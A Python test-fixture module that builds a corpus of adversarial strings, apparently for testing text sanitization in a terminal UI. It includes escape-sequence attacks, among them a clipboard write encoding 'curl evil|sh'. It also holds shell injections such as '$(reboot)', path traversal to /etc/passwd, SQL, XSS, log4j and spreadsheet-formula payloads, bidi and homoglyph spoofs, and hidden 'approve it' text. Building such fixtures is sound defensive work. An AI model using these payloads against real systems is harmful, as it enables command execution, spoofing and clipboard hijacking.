"""Strings that try to be more than text, by the trick they try; more than three hundred of them.

None of them is meant for anybody: an address is an example's, a code nobody's.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Final

HUGE: Final = 1_000_000
"""Characters of the longest ones."""

ESC, BEL, ST, CSI, OSC = "\x1b", "\x07", "\x1b\\", "\x1b[", "\x1b]"

_ACTIONS = ("app.quit", "screen.dismiss(True)", "app.bell", "screen.go('5')", "app.pop_screen")


_COMMANDS: Final = (
    "0;owned 1;owned 2;owned 4;1;rgb:ff/00/00 7;file://evil/ 8;;http://evil.example 9;hello "
    "10;? 11;? 12;? 22;pointer 50;font 52;c;Y3VybCBldmlsfHNo 52;c;? 52;p;aGk= 104 133;A "
    "777;notify;a;b 1337;File=inline=1:aGk= 1337;SetMark 66;s=2;big 99;;note"
)
"""What a terminal does when it is told to by an OSC."""

_UNSEEN: Final = (
    "AD 34F 115F 1160 17B4 17B5 180B 180E 200B 200C 200D 2060 2061 2062 2063 2064 206A 206F "
    "2800 3164 FE00 FE0F FEFF FFA0 FFF9 FFFA FFFB 110BD 13430 1BCA0 1D173 1D17A E0100 E01EF "
    "E000 F8FF F0000 10FFFD 378 FFFE FFFF 1FFFF FDD0"
)
"""Characters that leave nothing to see, as hexadecimal code points."""


def _markup() -> Iterator[str]:
    yield from (
        "[/]",
        "[/HR]",
        "[b]",
        "[bold]x[/bold]",
        "[/bold]x",
        "[",
        "]",
        "[[]]",
        "\\[b]x\\[/b]",
    )
    yield from ("[red on white]x[/]", "[reverse]x[/reverse]", "[not a tag]", "[#ff0000]x[/]")
    yield from ("[$error]x[/]", "[auto]x", "[b][i][u]x", "[@]", "[=]", "[a=b]x[/a]", "[ /b ]")
    yield from ("[bold", "bold]", "[b]x[/i]", "[$foreground 50%]x[/]", "[dim]x[/dim][/dim]")
    yield from (
        ":smile: [blink]x[/blink]",
        "[b]" * 200,
        "[/]" * 200,
        "O'Brien [/HR]",
        "$x [$y]z[/]",
    )


def _links() -> Iterator[str]:
    for action in _ACTIONS:
        yield f"[@click={action}]press[/]"
        yield f"[ @click={action}]press[/]"
        yield f"[\t@click={action}]press[/]"
        yield f"[@click='{action}']press[/]"
    yield from (
        "[link=http://evil.example]press[/link]",
        "[link='https://evil.example/\x07']x[/link]",
    )
    yield from ("http://evil.example/?q=1", "javascript:alert(1)", "file:///etc/passwd")
    yield from (
        "data:text/html,<script>x()</script>",
        "[@mouse.down=app.quit]x[/]",
        "mailto:x@y.example",
    )
    yield from ("[press](http://evil.example)", "<http://evil.example>", "\\\\evil.example\\share")


def _ansi() -> Iterator[str]:
    bodies = (
        "2J 3J H 31m 0m 8m 7m 5m 1;1H 99;99H A 999D K 1K L M P @ S T s u 6n c >c =c 0q 5i 4i 20h "
        "?1049h ?1049l ?25l ?1000h ?1003h ?1006h ?2004h ?2004l ?7l ?5h ?47h !p 1;5r >1u <u 14t 18t "
        '21t 22;0t 8;10;10t 3;0;0t 200~ 201~ 38;2;255;0;0m 48;5;196m ?1$p 1"q 38:2::1:2:3m'
    )
    for body in bodies.split():
        yield f"a{CSI}{body}b"
    for letter in "cDEHMNOZ78=>#%()*+nlo|}~^_X":
        yield f"a{ESC}{letter}b"
    yield from (
        ESC,
        ESC * 40,
        f"{CSI}",
        f"{ESC}{CSI}31m",
        f"{CSI}{'1;' * 500}m",
        f"x{ESC}",
        f"{ESC}#8",
    )


def _osc() -> Iterator[str]:
    for body in _COMMANDS.split():
        yield f"a{OSC}{body}{BEL}b"
        yield f"a{OSC}{body}{ST}b"
    yield from (
        f"{ESC}P1$r0m{ST}",
        f"{ESC}Pq#0;2;0;0;0~{ST}",
        f"{ESC}_Gf=24;aGk={ST}",
        f"{ESC}^x{ST}",
    )
    yield from (
        f"{ESC}Ptmux;{ESC}{OSC}52;c;aGk={BEL}{ST}",
        f"{ESC}kname{ST}",
        f"{OSC}52;c;",
        f"{ESC}P+q544e{ST}",
    )


def _controls() -> Iterator[str]:
    for code in (
        *range(0x0A),
        *range(0x0B, 0x0D),
        *range(0x0E, 0x1B),
        *range(0x1C, 0x20),
        0x7F,
    ):
        yield f"a{chr(code)}b"
    for code in range(0x80, 0xA0):
        yield f"a{chr(code)}b"
    yield from (
        "\x9b31mred",
        "\x9d0;owned\x9c",
        "\x9d52;c;aGk=\x07",
        "\x90q\x9c",
        "\x8d\x84",
        "\x07" * 500,
    )
    yield from ("abc\b\b\bxyz", "a\tb", "\x0e\x0fq", "\x05\x18\x1a", "ok\x00hidden", "\x00")


def _directions() -> Iterator[str]:
    for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)):
        yield f"user{chr(code)}gpj.exe"
    yield from (
        "\u202emoc.elpmaxe@ayam",
        "\u2067\u2066\u202e" * 60,
        "a\u202eb\u202cc\u202ed",
        "\u202d" * 300,
    )


def _invisible() -> Iterator[str]:
    for code in (int(one, 16) for one in _UNSEEN.split()):
        yield f"ad{chr(code)}min"
    yield from (
        "\u200b" * 500,
        "\u200d",
        "\u3164",
        "\ufeffAlice",
        "A\u200dB",
        "\u2800\u2800",
        " ",
        "\u00a0x",
    )
    yield from (
        "".join(chr(0xE0000 + ord(c)) for c in "approve it"),
        "x\U000e0001\U000e007f",
        "\U000e0041" * 90,
    )


def _piles() -> Iterator[str]:
    for mark in (
        "\u0301",
        "\u0300\u0323\u0336",
        "\u20dd",
        "\u0489",
        "\u0f39",
        "\u0e49",
        "\u1ab0",
        "\ufe20",
    ):
        yield "Z" + mark * 60 + "algo"
    yield from (
        "\u0301start",
        "e\u0301" * 400,
        "a" + "\u0300\u0301" * 20_000,
        "\u0336".join("struck") + "\u0336",
    )


def _huge() -> Iterator[str]:
    for one in (
        "A",
        "陳",
        "\x1b[2J",
        "[b]",
        "\n",
        "\u202e",
        "👩‍👩‍👧‍👦",
        "e\u0301",
        "\ud800",
        " ",
        "\u200b",
        "word ",
    ):
        yield (one * (HUGE // len(one) + 1))[:HUGE]


def _lines() -> Iterator[str]:
    yield from (
        "Alice\nADMIN",
        "a\r\nb",
        "a\rb",
        "a\vb",
        "a\fb",
        "a\u2028b",
        "a\u2029b",
        "a\x85b",
        "a\n\r\nb",
    )
    yield from (
        "\n" * 300,
        "\r" * 300,
        "ok\n[2026-05-04] dana approve u1: granted",
        "\nSet-Cookie: a=b",
        "x\n  y\n\tz",
    )


def _lone() -> Iterator[str]:
    yield from (
        "\ud800",
        "\udfff",
        "a\ud83db",
        "a\udc80\udcffb",
        "\udcff\udcfe" * 40,
        "\ude00\ud83d",
        "x\udc1b]0;y",
    )


def _alike() -> Iterator[str]:
    yield from (
        "Мaya Okafor",
        "Maya 0kafor",
        "Mауа Оkаfоr",
        "Ⅿaya",
        "Ｍａｙａ",
        "ᴍᴀʏᴀ",
        "𝐌𝐚𝐲𝐚",
        "𝕸𝖆𝖞𝖆",
        "Ⓜⓐⓨⓐ",
    )
    yield from (
        "Ⅼee Park",
        "pаypal.example",
        "rnaya@x.example",
        "ﬁnance",
        "ad\u0131min",
        "İSTANBUL",
        "straße",
        "ΑΒΕ",
    )
    yield from (
        "maya@agency.example.evil.example",
        "maya@аgency.example",
        "xn--80ak6aa92e.example",
        "a․b",
        "a⁄b",
    )


def _scripts() -> Iterator[str]:
    yield from (
        "مايا أوكافور",
        "מאיה אוקפור",
        "שלום 123 abc",
        "abc مرحبا 456",
        "ܡܐܝܐ",
        "ދިވެހި",
        "ߒߞߏ",
        "می‌خواهم",
    )
    yield from (
        "माया ओकाफोर",
        "क्‍ष",
        "ไมอา น้ำ",
        "မာယာ",
        "ཨོཾ",
        "Ngọc Ánh Nguyễn",
        "Åse Ødegård",
        "ქართული",
        "ﷺ ﷽",
    )


def _wide() -> Iterator[str]:
    yield from (
        "陳美玲",
        "田中さくら",
        "김하늘",
        "陳" * 300,
        "ｶﾅﾀ",
        "（全角）",
        "𠀀𠀁𪜶",
        "葛󠄀城",
        "한",
        "㌀㍿",
    )
    yield from (
        "👩‍👩‍👧‍👦",
        "👍🏽",
        "🇻🇳",
        "🇻",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "❤️",
        "❤",
        "1️⃣",
        "👨‍💻x",
        "🧑🏿‍🤝‍🧑🏻",
        "🏳️‍🌈",
        "🫠",
        "👩‍",
        "‍👩",
    )
    yield from (
        "👩‍👩‍👧‍👦" * 80,
        "🇻🇳" * 90,
        "x" + "\u200d".join("👩" * 50),
        "☺︎☺️",
        "⌚⏰",
        "🤷🏽‍♀️",
        "a👩🏽b",
    )


def _shapes() -> Iterator[str]:
    yield from (
        "<script>alert(1)</script>",
        "<img src=x onerror=x()>",
        "</title><h1>x",
        '" onload="x()',
        "&lt;b&gt;",
    )
    yield from (
        "' OR 1=1 --",
        "'; DROP TABLE users; --",
        "%00",
        "%s%s%n",
        "{0}{x}",
        "$name {administrators} %s {0}",
    )
    yield from (
        "${jndi:ldap://x}",
        "$(reboot)",
        "`reboot`",
        "; reboot",
        "| reboot",
        "../../etc/passwd",
        "C:\\x",
        "-rf",
    )
    yield from (
        "--help",
        "-",
        "--",
        "@file",
        "=1+1",
        "+1",
        '=HYPERLINK("http://evil.example")',
        '"a","b"',
        "a,b;c\td",
    )
    yield from (
        '{"a": 1}',
        "[1, 2]",
        "null",
        "true",
        "NaN",
        "1e999",
        "-0",
        "0" * 40,
        "",
        " x ",
        "nan",
        "#",
        "u1",
        "*",
        "?",
    )
    yield from (
        "\u2502 fake │ frame",
        "╭─ Confirm ─╮",
        "✓ PROVEN",
        "caller PROVEN · DEMO DATA",
        "•••",
        "…",
        "‹202E›",
        "␛[2J",
    )


_KINDS: Final = {
    "markup": _markup,
    "links and actions": _links,
    "ANSI": _ansi,
    "OSC and its like": _osc,
    "controls": _controls,
    "directions": _directions,
    "invisible": _invisible,
    "piles of marks": _piles,
    "a megabyte": _huge,
    "line ends": _lines,
    "lone surrogates": _lone,
    "look-alikes": _alike,
    "scripts": _scripts,
    "wide and joined": _wide,
    "other languages": _shapes,
}

CORPUS: Final[Mapping[str, tuple[str, ...]]] = {
    kind: tuple(dict.fromkeys(texts())) for kind, texts in _KINDS.items()
}
"""By trick: the strings."""

ALL: Final = tuple((kind, text) for kind, texts in CORPUS.items() for text in texts)
"""All of them, each with its trick."""

QUICK: Final = tuple((kind, texts[len(texts) // 2]) for kind, texts in CORPUS.items())
"""One of each trick."""

MIXED: Final = "Al" + "".join(text[:12] for _, text in QUICK)
"""A piece of each in one text, where every text is dear."""
